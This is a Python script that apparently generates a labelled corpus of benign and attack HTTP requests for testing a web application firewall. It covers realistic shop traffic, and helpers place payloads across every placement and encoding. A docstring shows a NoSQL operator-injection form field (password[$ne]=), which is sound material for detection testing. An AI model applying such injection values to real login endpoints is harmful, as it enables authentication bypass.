    "Script works in terminal but not from cron", "Update fails with a syntax error near FROM",
    "Why is my iframe blank on iOS?", "Is UNION ALL faster than UNION here?", "kill doesn't stop my process",
    "Drop a column without locking the table?", "curl returns 403 but the browser works", "Alert shows [object Object]",
    "Where should I put the script tag?", "Insert many rows at once from Python",
]
POST_INTROS = [
    "I tried this:", "Here's what I have so far:", "Minimal example:", "This works locally but not in production:",
    "My query looks like this:", "Following the docs I wrote:", "Sorry if this is a duplicate. Code:",
]
POST_PROBLEMS = [
    "but I get ERROR: syntax error at or near \"FROM\". Any idea?",
    "and it says permission denied. What am I missing?",
    "but the result has duplicates. Thanks in advance!",
    "and it hangs forever. Postgres 16, Ubuntu 24.04.",
    "TypeError: Cannot read properties of undefined (reading 'map')",
    "ModuleNotFoundError: No module named 'requests' (it's installed!)",
    "bash: command not found. Works when I type it myself.",
    "It runs, but takes 40 s on 2M rows. Can it be faster?",
    "Edit: solved, I had a typo in the column name. Leaving it here for others.",
]

MARKDOWN = [
    "# Release notes\n\n- Fixed *login* bug\n- Added `export` button\n\n> Thanks to all contributors!",
    "## Steps\n1. Open **Settings**\n2. Select *Privacy*\n3. Click [Save](https://example.org/help)",
    "Here is a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
    "Code: `npm install --save lodash` then `npm run build`",
    "![logo](https://cdn.example.org/logo.png \"Logo\")",
    "## Union meeting\n\n- [x] select a chair\n- [ ] update the minutes\n- [ ] drop the old agenda",
    "See [the FAQ](https://shop.example/help/faq#returns) and [our terms](https://shop.example/terms?v=3).",
    "> Where do I order a table?\n\nFrom the **Furniture** menu, then *Tables*.",
    "Shopping list:\n\n* eggs (x12)\n* flour & sugar\n* cat food; the *wet* kind",
    "### Known issues\n\n1. `Select all` ignores filters ([#412](https://git.example.org/shop/issues/412))\n"
    "2. Delete button greyed out on Safari",
    "Footnote test[^1].\n\n[^1]: It's \"quoted\" & (parenthesised).",
    "**Bold**, _italic_, ~~strike~~, `code`, and a [link](https://example.org/a_(b)).",
    "Reply to @jane: yes, the `onload` hook runs after images load.\n\n---\n\n*Sent from my phone*",
    "<!-- draft: add screenshots -->\n# Installing\n\nRun the installer, then **sleep** on it.",
    "| Plan | Price | Users |\n|:--|--:|:-:|\n| Basic | $5 | 1 |\n| Team | $20 | 10 |",
    "Steps to reproduce:\n\n```\n1. open cart\n2. select 2 items\n3. click delete\n```\n\nExpected: 1 item left.",
]

XML_DOCS = ["note", "order", "feedback"]

PATHS = ["/", "/products", "/products/4711", "/blog/2026/12/hello-world", "/static/app.3f9a1c.js",
         "/static/style.css", "/images/banner.webp", "/api/v1/cart", "/account/orders", "/help/faq",
         "/docs/getting-started", "/favicon.ico", "/search", "/category/garden-tools",
         "/products/union-jack-cushion", "/blog/2026/11/how-to-select-a-table-saw", "/help/delete-account",
         "/category/sleep-and-bedding", "/products/cat-tree-deluxe", "/en-gb/stores/union-street",
         "/products/script-font-poster-a3", "/fr/produits/table-basse-chêne", "/de/hilfe/bestellung-ändern"]
PAGE_QUERIES = ["", "?page=2", "?utm_source=newsletter&utm_medium=email", "?sort=price_asc&size=M",
                "?utm_source=google&utm_medium=cpc&utm_campaign=winter_sale&gclid=Cj0KCQiA2eK", "?ref=union-2026",
                "?colour=navy&size=L&view=grid", "?fbclid=IwAR2xYz_Q8kVb", "?lang=fr&currency=EUR",
                "?filter=price%3C50%3Bbrand%3DAcme", "?q=o%27brien&page=3", "?select=seats&from=dublin&to=cork"]
REFERERS = [
    "https://www.google.com/search?q=union+station+select+seats&oq=union+station&sourceid=chrome&ie=UTF-8",
    "https://duckduckgo.com/?q=drop+me+a+line+card&ia=web",
    f"https://{HOST}/search?q=o%27brien&page=2",
    "https://www.bing.com/search?q=cat+tree+deluxe&form=QBLH&sp=-1",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example%2Fproducts%2F4711&h=AT0aBcDeFg",
    "https://t.co/Xy7Qa1bZ",
    "https://mail.example.com/mail/u/0/",
    f"https://{HOST}/category/garden-tools?sort=price_asc&size=M&page=4",
    "https://news.example.org/2026/12/best-tables-of-the-year?utm_source=rss&utm_medium=feed",
    f"https://{HOST}/checkout?step=2&coupon=WINTER10#payment",
    "https://www.google.de/search?q=tisch+ausziehbar+eiche&client=firefox-b-d",
    "https://search.yahoo.co.jp/search?p=%E3%83%86%E3%83%BC%E3%83%96%E3%83%AB&ei=UTF-8",
]
ACCEPTS = ["text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
           "application/json, text/plain, */*", "image/avif,image/webp,image/apng,*/*;q=0.8", "*/*"]
LANGUAGES = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.5", "fr-FR,fr;q=0.8", "en-GB,en;q=0.7",
             "ja,en-US;q=0.8,en;q=0.6", "pt-BR,pt;q=0.9,en-US;q=0.8", "zh-CN,zh;q=0.9", "es-ES,es;q=0.9,ca;q=0.5"]
UAS = [BROWSER_UA,
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
       "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.122 Mobile Safari/537.36",
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.87",
       "okhttp/4.12.0", "python-requests/2.32.3", "curl/8.5.0", "ShopApp/5.12.0 (iOS 17.5; iPhone15,2; build 4411)"]


PROSE = (PROSE_SQL, PROSE_SHELL, PROSE_HTML, PROSE_PUNCT, PROSE_I18N)
INTERNAL_REFERERS = [f"https://{HOST}{p}" for p in PATHS]


class Source(random.Random):
    """The seeded random source, which also deals the written texts: each
    vocabulary is a shuffled deck drawn without replacement (reshuffled when
    empty), so every text is used before any is used twice."""

    def __init__(self, seed):
        super().__init__(seed)
        self.decks = {}
        self.used = set()

    def pick(self, *vocabularies):
        """A text from one of `vocabularies`, chosen in proportion to their sizes."""
        n = self.randrange(sum(len(v) for v in vocabularies))
        for vocabulary in vocabularies:
            if n < len(vocabulary):
                break
            n -= len(vocabulary)
        deck = self.decks.get(id(vocabulary))
        if not deck:
            deck = self.decks[id(vocabulary)] = self.sample(vocabulary, len(vocabulary))
        text = deck.pop()
        self.used.add(text)
        return text


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def uuid4(rng) -> str:
    """A random (version 4) UUID from the seeded source."""
    b = bytearray(rng.randbytes(16))
    b[6] = (b[6] & 0x0F) | 0x40
    b[8] = (b[8] & 0x3F) | 0x80
    h = b.hex()
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def jwt(rng) -> str:
    """A JWT with one of a few header shapes and realistic claims (signature random)."""
    alg = rng.choice(["HS256", "RS256", "ES256"])
    header = {"alg": alg, "typ": "JWT"}
    if alg != "HS256":
        header["kid"] = rng.randbytes(8).hex()
    now = 1765000000 + rng.randint(0, 99999)
    claims = {"sub": str(rng.randint(1000, 99999)), "iat": now, "exp": now + rng.choice([300, 3600, 86400])}
    extra = rng.randint(0, 3)
    if extra == 0:
        claims.update(name=rng.pick(NAMES), scope="read write")
    elif extra == 1:
        claims.update(iss="https://auth.shop.example/", aud="shop-api", email=rng.pick(EMAILS))
    elif extra == 2:
        claims.update(roles=["customer"], nonce=b64url(rng.randbytes(9)), sid=uuid4(rng))
    else:
        claims.update(azp="shop-web", scope="openid profile email", preferred_username=rng.pick(NAMES))
    sig = b64url(rng.randbytes(64 if alg == "ES256" else 32 if alg == "HS256" else 256))
    compact = {"separators": (",", ":"), "ensure_ascii": False}
    return f"{b64url(json.dumps(header, **compact).encode())}.{b64url(json.dumps(claims, **compact).encode())}.{sig}"


def long_cookie(rng) -> str:
    """A browser's cookie header for a shop with analytics, consent and A/B tools."""
    ts = 1765000000 + rng.randint(0, 999999)
    parts = [f"sid={rng.randbytes(16).hex()}", f"_ga=GA1.2.{rng.randint(10**8, 10**9)}.{rng.randint(10**9, 2 * 10**9)}",
             "theme=" + rng.choice(["dark", "light", "auto"]), f"cart={b64url(json.dumps({'items': rng.randint(0, 9)}).encode())}"]
    optional = [
        lambda: f"_gid=GA1.2.{rng.randint(10**8, 10**9)}.{ts}",
        lambda: f"_ga_{b64url(rng.randbytes(6)).upper()}=GS1.1.{ts}.{rng.randint(1, 40)}.1.{ts + 60}.0.0.0",
        lambda: f"_gcl_au=1.1.{rng.randint(10**8, 10**9)}.{ts}",
        lambda: f"_fbp=fb.1.{ts}123.{rng.randint(10**8, 10**10)}",
        lambda: f"_hjSessionUser_{rng.randint(10**5, 10**7)}=" + b64url(json.dumps(
            {"id": uuid4(rng)[:16], "created": ts * 1000, "existing": True}).encode()),
        lambda: "ajs_anonymous_id=" + urllib.parse.quote(json.dumps(uuid4(rng))),
        lambda: "OptanonConsent=" + urllib.parse.quote(
            f"isGpcEnabled=0&datestamp=Sun Dec 06 2026 10:{rng.randint(10, 59)}:00 GMT+0100&version=202409.1.0"
            f"&groups=C0001:1,C0002:{rng.randint(0, 1)},C0003:1,C0004:0&AwaitingReconsent=false", safe="=&"),
        lambda: "mp_" + rng.randbytes(16).hex() + "_mixpanel=" + urllib.parse.quote(json.dumps(
            {"distinct_id": uuid4(rng), "$device_id": rng.randbytes(7).hex(), "$initial_referrer": "$direct"})),
        lambda: f"AMCV_{rng.randbytes(12).hex().upper()}%40AdobeOrg=MCMID%7C{rng.randint(10**37, 10**38)}%7CvVersion%7C5.5.0",
        lambda: f"_pk_id.1.{rng.randbytes(2).hex()}={rng.randbytes(8).hex()}.{ts}.",
        lambda: f"__stripe_mid={uuid4(rng)}{rng.randbytes(3).hex()}",
        lambda: "consent=" + urllib.parse.quote(json.dumps({"ads": False, "stats": True})),
        lambda: "jwt=" + jwt(rng),
        lambda: f"csrftoken={b64url(rng.randbytes(24))}",
        lambda: f"recently_viewed={'%2C'.join(str(rng.randint(1000, 9999)) for _ in range(rng.randint(2, 8)))}",
        lambda: "ab_test=" + urllib.parse.quote("checkout:B|search:A|select_seats:control"),
        lambda: "last_search=" + urllib.parse.quote(rng.pick(SEARCHES)),
    ]
    for make in rng.sample(optional, rng.randint(0, 9)):
        parts.append(make())
    return "; ".join(parts)


def browser_headers(rng, accept=None):
    h = [["Host", HOST], ["User-Agent", rng.choice(UAS)], ["Accept", accept or rng.choice(ACCEPTS)],
         ["Accept-Language", rng.choice(LANGUAGES)], ["Accept-Encoding", "gzip, deflate, br, zstd"]]
    if rng.random() < 0.5:
        h.append(["If-None-Match", 'W/"%x-%s"' % (rng.randint(100, 99999), b64url(rng.randbytes(12)))])
    if rng.random() < 0.5:
        h.append(["Referer", rng.pick(REFERERS, INTERNAL_REFERERS)])
    if rng.random() < 0.7:
        h.append(["Cookie", long_cookie(rng)])
    if rng.random() < 0.2:
        h.append(["Authorization", "Bearer " + jwt(rng)])
    if rng.random() < 0.3:
        h.append(["Sec-Fetch-Mode", "navigate"])
        h.append(["Sec-Ch-Ua", '"Chromium";v="126", "Not.A/Brand";v="24"'])
    return h


def api_headers(rng):
    """The tracing and client headers API gateways and SDKs add."""
    trace = rng.randbytes(16).hex()
    h = [["X-Request-Id", uuid4(rng)], ["traceparent", f"00-{trace}-{rng.randbytes(8).hex()}-0{rng.randint(0, 1)}"]]
    optional = [
        ["X-Correlation-Id", uuid4(rng)],
        ["tracestate", f"shop={rng.randbytes(8).hex()},vendor=t61rcWkgMzE"],
        ["baggage", f"userId={rng.randint(1000, 99999)},isProduction=false,tenant=eu-west"],
        ["X-Amzn-Trace-Id", f"Root=1-{rng.randbytes(4).hex()}-{rng.randbytes(12).hex()};Parent={rng.randbytes(8).hex()};Sampled=1"],
        ["X-B3-TraceId", trace], ["X-B3-SpanId", rng.randbytes(8).hex()],
        ["Idempotency-Key", uuid4(rng)], ["X-Api-Version", rng.choice(["2026-11-01", "v2", "3"])],
        ["X-Client-Version", rng.choice(["ios/5.12.0 (4411)", "android/5.11.2 (98120)", "web/2026.12.1"])],
        ["X-Forwarded-For", f"203.0.113.{rng.randint(1, 254)}, 10.0.{rng.randint(0, 255)}.{rng.randint(1, 254)}"],
        ["X-CSRF-Token", b64url(rng.randbytes(32))],
        ["sentry-trace", f"{trace}-{rng.randbytes(8).hex()}-1"],
        ["X-Device-Id", rng.randbytes(8).hex().upper()],
        ["X-Session-Id", b64url(rng.randbytes(18))],
    ]
    return h + rng.sample(optional, rng.randint(1, 6))


def form_body(fields) -> str:
    return "&".join(f"{k}={urllib.parse.quote_plus(v)}" for k, v in fields)


def post_json(uri, h, doc):
    """A POST of `doc` as JSON, with headers `h`."""
    return request("POST", uri, h + [["Content-Type", "application/json"]], json.dumps(doc, ensure_ascii=False))


def post_form(uri, h, fields):
    """A POST of `fields` (name, value pairs) urlencoded, with headers `h`."""
    return request("POST", uri, h + [["Content-Type", "application/x-www-form-urlencoded"]], form_body(fields))


def graphql_request(rng, name, query, variables):
    """A browser's GraphQL call: a GET with the query in the URL when
    `variables` is None, else a JSON POST; `variables` is a document or a
    function of `rng` that makes one (called after the headers are drawn)."""
    h = browser_headers(rng, accept="application/json") + api_headers(rng)
    if variables is None:
        return request("GET", "/graphql?" + urllib.parse.urlencode({"operationName": name, "query": query}), h)
    if callable(variables):
        variables = variables(rng)
    return post_json("/graphql", h, {"operationName": name, "query": query, "variables": variables})


def built_benign(prefix, kinds, rng, first=1):
    """One benign record per text of `kinds` ((placement, build, texts)
    triples), built by `build(rng, text)`, with ids
    `{prefix}benign-{n:04d}-{placement}` counted from `first`."""
    out = []
    for kind, build, texts in kinds:
        for text in texts:
            r = build(rng, text)
            out.append({"id": f"{prefix}benign-{len(out) + first:04d}-{kind}", "class": "benign", "placement": kind,
                        "encoding": "plain", **r})
    return out


def require_all_used(rng, what, *vocabularies):
    """Stop unless `rng` dealt every entry of the vocabularies (`what` names them)."""
    unused = {t for v in vocabularies for t in v} - rng.used
    if unused:
        raise SystemExit(f"{len(unused)} {what} never used: {sorted(unused)[:5]}")


def bracketed(prefix, v):
    """A structure as bracketed form names, as PHP and Express read them:
    ("password", {"$ne": None}) gives password[$ne]= (`prefix` may be empty
    for a structure at the top)."""
    if isinstance(v, dict):
        for k, x in v.items():
            yield from bracketed(f"{prefix}[{k}]" if prefix else k, x)
    elif v is None:
        yield prefix, ""
    else:
        yield prefix, str(v)


def bracketed_query(pairs) -> str:
    """Name/value pairs as a query string that keeps `[`, `]` and `$` in names."""
    return "&".join(f"{urllib.parse.quote(k, safe='[]$')}={urllib.parse.quote(v, safe='')}" for k, v in pairs)


def require_every_placement(attacks, classes, placements):
    """Stop unless every attack class reached every placement in `attacks`."""
    covered = {(r["class"], r["placement"]) for r in attacks}
    missing = [(c, p) for c in classes for p in placements if (c, p) not in covered]
    if missing:
        raise SystemExit(f"{len(missing)} class/placement pairs without a request: {missing[:5]}")


def corpus_main(attacks, benign, classes=None, placements=None):
    """The command line of a corpus script, `SCRIPT OUT_FILE`: write its
    attacks, then its benign requests; with `classes` and `placements`,
    first check that every class reached every placement."""
    if len(sys.argv) != 2:
        sys.exit(f"usage: {Path(sys.argv[0]).name} OUT_FILE")
    rows = list(attacks())
    if classes is not None:
        require_every_placement(rows, classes, placements)
    write_corpus(sys.argv[1], rows, benign())


def write_corpus(path, attacks, benign):
    """Write a corpus of `attacks` then `benign` records to `path`, after
    checking that ids are unique and no header value holds CR or LF."""
    rows = attacks + benign
    ids = [r["id"] for r in rows]
    if len(ids) != len(set(ids)):
        raise SystemExit("duplicate ids")
    for r in rows:
        for name, value in r["headers"]:
            if "\r" in value or "\n" in value:
                raise SystemExit(f"{r['id']}: CR or LF in header {name}")
    write_jsonl(path, rows)
    print(f"{path}: {len(attacks)} attack and {len(benign)} benign requests")


def write_jsonl(path, rows):
    """Write corpus records one JSON object per line, UTF-8 unescaped."""
    with open(path, "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


def placed_attacks(prefix, table, placements, encodings):
    """Every payload of `table` (class -> payloads) in every placement and
    encoding, as corpus records with ids `{prefix}{class}-{i:02d}-{placement}-{encoding}`."""
    for cls, payloads in table.items():
        for i, payload in enumerate(payloads, 1):
            for pl in placements:
                for enc in encodings:
                    r = place(pl, encode(payload, enc), cls, enc)
                    yield {"id": f"{prefix}{cls}-{i:02d}-{pl}-{enc}", "class": cls, "placement": pl, "encoding": enc, **r}


def forum_post(rng):
    """(title, markdown body, language tag, bare code) of a question on a developer forum."""
    lang, fence, group = rng.choice(CODE_GROUPS)
    code = rng.pick(group)
    body = f"{rng.pick(POST_INTROS)}\n\n```{fence}\n{code}\n```\n\n{rng.pick(POST_PROBLEMS)}"
    return rng.pick(POST_TITLES), body, lang, code


def image_data_url(rng) -> str:
    """A data URL of a small PNG, JPEG, GIF, WebP or SVG image (bytes after the header random)."""
    kind = rng.choice(["png", "jpeg", "gif", "webp", "svg"])
    size = rng.choice([rng.randint(40, 400), rng.randint(400, 3000), rng.randint(3000, 12000)])
    if kind == "svg":
        w, hgt = rng.randint(12, 64), rng.randint(12, 64)
        svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="{w}" height="{hgt}" viewBox="0 0 {w} {hgt}">'
               f'<rect width="{w}" height="{hgt}" rx="{rng.randint(0, 8)}" fill="#{rng.randbytes(3).hex()}"/>'
               f'<path d="M{rng.randint(1, 9)} {rng.randint(1, 9)}h{rng.randint(4, 9)}v{rng.randint(4, 9)}z" fill="#fff"/></svg>')
        return "data:image/svg+xml;base64," + base64.b64encode(svg.encode()).decode()
    head = {
        "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00",
        "gif": b"GIF89a" + rng.randbytes(4) + b"\xf7\x00\x00",
        "webp": b"RIFF" + size.to_bytes(4, "little") + b"WEBPVP8 ",
    }[kind]
    return f"data:image/{kind};base64," + base64.b64encode(head + rng.randbytes(size)).decode()


def benign_request(kind: str, rng) -> dict:
    """One benign request of `kind` (the `placement` the report groups it by)."""
    h = browser_headers(rng)
    form = h + [["Content-Type", "application/x-www-form-urlencoded"]]
    as_json = h + [["Content-Type", "application/json"]]
    if kind == "page":
        return request("GET", rng.pick(PATHS) + rng.pick(PAGE_QUERIES), h)
    if kind == "search":
        q = rng.pick(SEARCHES, PROSE_SQL, PROSE_SHELL, PROSE_HTML, PROSE_PUNCT)
        return request("GET", "/search?q=" + urllib.parse.quote_plus(q) + "&page=" + str(rng.randint(1, 5)), h)
    if kind == "form_prose":
        body = form_body([("name", rng.pick(NAMES)), ("email", rng.pick(EMAILS)), ("phone", rng.pick(PHONES)),
                          ("message", rng.pick(PROSE_SQL, PROSE_SHELL, PROSE_HTML)), ("subscribe", "on")])
        return request("POST", "/contact", form, body)
    if kind == "form_i18n":
        body = form_body([("name", rng.pick(NAMES)), ("email", rng.pick(EMAILS)),
                          ("message", rng.pick(PROSE_I18N)), ("lang", rng.choice(["de", "fr", "es", "ja", "zh", "ru"]))])
        return request("POST", "/contact", form, body)
    if kind == "review_json":
        doc = {"product": rng.randint(1000, 9999), "rating": rng.randint(1, 5), "author": rng.pick(NAMES),
               "title": rng.choice(["Great!", "Meh...", "5/5 :-)", "Not bad; not great", "\"As described\""]),
               "text": rng.pick(PROSE_PUNCT, PROSE_SQL), "recommend": rng.random() < 0.8}
        return request("POST", f"/api/v1/products/{doc['product']}/reviews", as_json, json.dumps(doc, ensure_ascii=False))
    if kind == "form_code":
        title, body_md, lang, code = forum_post(rng)
        body = form_body([("title", title), ("body", rng.choice([code, body_md])), ("tags", lang)])
        return request("POST", "/forum/posts", form, body)
    if kind == "forum_json":
        title, body_md, lang, code = forum_post(rng)
        doc = {"title": title, "body": body_md, "code": code, "language": lang,
               "tags": rng.sample(["sql", "postgres", "bash", "linux", "python", "javascript", "html", "css"], 2),
               "draft": False}
        return request("POST", "/api/forum/questions", as_json + api_headers(rng), json.dumps(doc))
    if kind == "json_api":
        doc = {"customer": {"name": rng.pick(NAMES), "note": rng.pick(*PROSE)},
               "items": [{"sku": f"SKU-{rng.randint(100, 999)}", "qty": rng.randint(1, 4)} for _ in range(rng.randint(1, 4))],
               "coupon": rng.choice([None, "WINTER10", "union-2026", "1=1", "SELECT20"])}
        return request("POST", "/api/v1/orders", as_json, json.dumps(doc, ensure_ascii=False))
    if kind == "address_form":
        body = form_body([("full_name", rng.pick(NAMES)), ("address", rng.pick(ADDRESSES)),
                          ("email", rng.pick(EMAILS)), ("phone", rng.pick(PHONES)),
                          ("instructions", rng.choice(["", "Leave with neighbour (No. 12)", "Ring twice; dog is friendly!",
                                                       "Side door & up the stairs", "Don't drop it, it's glass :)"]))])
        return request("POST", "/checkout/address", form, body)
    if kind == "multipart":
        b = "----WebKitFormBoundary" + b64url(rng.randbytes(12))
        name, ctype, make = rng.choice([
            ("notes.txt", "text/plain", lambda: rng.pick(*PROSE, MARKDOWN)),
            ("query.sql", "application/sql", lambda: rng.pick(CODE_SQL)),
            ("script.sh", "text/x-sh", lambda: "#!/bin/sh\n" + rng.pick(CODE_SHELL)),
            ("contacts.csv", "text/csv", lambda: "name,email,phone\n" + "\n".join(
                f"\"{rng.pick(NAMES)}\",{rng.pick(EMAILS)},{rng.pick(PHONES)}" for _ in range(rng.randint(1, 5)))),
        ])
        content = make()
        body = (f"--{b}\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\n{rng.pick(*PROSE)}\r\n"
                f"--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: {ctype}\r\n\r\n{content}\r\n"
                f"--{b}--\r\n")
        return request("POST", "/upload", h + [["Content-Type", f"multipart/form-data; boundary={b}"]], body)
    if kind == "name":
        city = rng.choice(["Cork", "Zürich", "São Paulo", "Kraków", "Malmö", "Łódź", "Москва", "東京"])
        return request("GET", "/people?last=" + urllib.parse.quote(rng.pick(NAMES)) + "&city=" + urllib.parse.quote(city), h)
    if kind == "markdown_json":
        doc = {"title": rng.choice(["Notes", "Release 2.4", "Meeting minutes", "FAQ draft"]),
               "body": rng.pick(MARKDOWN, URLS_IN_TEXT), "draft": rng.random() < 0.5}
        # POST, not PUT: CRS refuses PUT by policy (911100, tx.allowed_methods), which is
        # configuration, not detection.
        return request("POST", f"/api/v1/pages/{rng.randint(1, 500)}", as_json, json.dumps(doc, ensure_ascii=False))
    if kind == "chat_json":
        doc = {"channel": rng.choice(["#support", "#orders", "#general"]), "author": rng.pick(NAMES),
               "text": rng.pick(*PROSE, URLS_IN_TEXT), "client_msg_id": uuid4(rng)}
        return request("POST", "/api/chat/messages", as_json + api_headers(rng), json.dumps(doc, ensure_ascii=False))
    if kind == "data_url":
        doc = {"avatar": image_data_url(rng), "alt": rng.pick(NAMES)}
        return request("POST", "/api/v1/profile/avatar", as_json, json.dumps(doc, ensure_ascii=False))
    if kind == "data_url_form":
        body = form_body([("signature", image_data_url(rng)), ("order", str(rng.randint(10**5, 10**6))), ("agree", "yes")])
        return request("POST", "/orders/sign", form, body)
    if kind == "jwt_api":
        return request("GET", f"/api/v1/me?fields=name,email&ts={rng.randint(10**9, 2 * 10**9)}",
                       [x for x in h if x[0] != "Authorization"] + [["Authorization", "Bearer " + jwt(rng)]] + api_headers(rng))
    if kind == "uuid_api":
        cursor = b64url(json.dumps({"after": uuid4(rng), "limit": 50}).encode())
        return request("GET", f"/api/v2/orders/{uuid4(rng)}/items?cursor={cursor}&expand=product", h + api_headers(rng))
    if kind == "graphql":
        name, query, variables = rng.choice([
            ("Orders", "query Orders($first: Int!) { orders(first: $first, orderBy: CREATED_AT_DESC) { id total status } }",
             lambda: {"first": rng.randint(5, 50)}),
            ("Search", "query Search($q: String!) { search(query: $q) { ... on Product { id name price } } }",
             lambda: {"q": rng.pick(SEARCHES)}),
            ("UpdateAddress", "mutation UpdateAddress($id: ID!, $line1: String!) { updateAddress(id: $id, line1: $line1) { id } }",
             lambda: {"id": uuid4(rng), "line1": rng.pick(ADDRESSES)}),
            ("DeleteItem", "mutation DeleteItem($id: ID!) { deleteCartItem(id: $id) { cart { id count } } }",
             lambda: {"id": uuid4(rng)}),
        ])
        variables = variables()
        doc = {"operationName": name, "query": query, "variables": variables}
        return request("POST", "/graphql", as_json + api_headers(rng), json.dumps(doc, ensure_ascii=False))
    if kind == "oauth_callback":
        back = rng.choice(["/account/orders?tab=open", "/checkout?step=2", "/", "/products/4711#reviews"])
        uri = (f"/oauth/callback?code={b64url(rng.randbytes(30))}&state={b64url(rng.randbytes(16))}"
               f"&scope={urllib.parse.quote('openid email profile')}&return_to={urllib.parse.quote(back, safe='')}")
        return request("GET", uri, h)
    if kind == "xml":
        doc = rng.choice(XML_DOCS)
        if doc == "note":
            body = f"<?xml version=\"1.0\"?><note><to>{xml_escape(rng.pick(NAMES))}</to><text>{xml_escape(rng.pick(*PROSE))}</text></note>"
        elif doc == "order":
            body = (f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><order id=\"{uuid4(rng)}\">"
                    f"<customer>{xml_escape(rng.pick(NAMES))}</customer><address>{xml_escape(rng.pick(ADDRESSES))}</address>"
                    f"<item sku=\"SKU-{rng.randint(100, 999)}\" qty=\"{rng.randint(1, 4)}\"/></order>")
        else:
            body = (f"<?xml version=\"1.0\"?><feedback rating=\"{rng.randint(1, 5)}\"><email>{xml_escape(rng.pick(EMAILS))}</email>"
                    f"<comment><![CDATA[{rng.pick(PROSE_PUNCT)}]]></comment></feedback>")
        return request("POST", "/api/notes", h + [["Content-Type", "application/xml"]], body)
    raise ValueError(kind)


BENIGN_KINDS = ["page", "search", "form_prose", "form_i18n", "review_json", "form_code", "forum_json", "json_api",
                "address_form", "multipart", "name", "markdown_json", "chat_json", "data_url", "data_url_form",
                "jwt_api", "uuid_api", "graphql", "oauth_callback", "xml"]
BENIGN_COUNT = 1200


def written_texts():
    """Every distinct text written for the benign corpus (the generated tokens not counted)."""
    lists = [*PROSE, SEARCHES, NAMES, ADDRESSES, EMAILS,
             PHONES, URLS_IN_TEXT, CODE, POST_TITLES, POST_INTROS, POST_PROBLEMS, MARKDOWN, PATHS, PAGE_QUERIES, REFERERS]
    return {t for texts in lists for t in texts}


def benign():
    rng = Source(SEED)
    out = []
    for n in range(BENIGN_COUNT):
        kind = BENIGN_KINDS[n % len(BENIGN_KINDS)]
        r = benign_request(kind, rng)
        out.append({"id": f"benign-{n:04d}-{kind}", "class": "benign", "placement": kind, "encoding": "plain", **r})
    unused = written_texts() - rng.used
    if unused:
        raise SystemExit(f"{len(unused)} benign texts never used (raise BENIGN_COUNT): {sorted(unused)[:5]}")
    return out


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: generate.py OUT_DIR")
    out = Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    for name, rows in (("attacks.jsonl", attacks()), ("benign.jsonl", benign())):
        with open(out / name, "w", encoding="utf-8") as f:
            for r in rows:
                f.write(json.dumps(r, ensure_ascii=False) + "\n")
        print(f"{out / name}: {len(rows)} requests")
    print(f"benign texts written for the corpus: {len(written_texts())}")


if __name__ == "__main__":
    main()
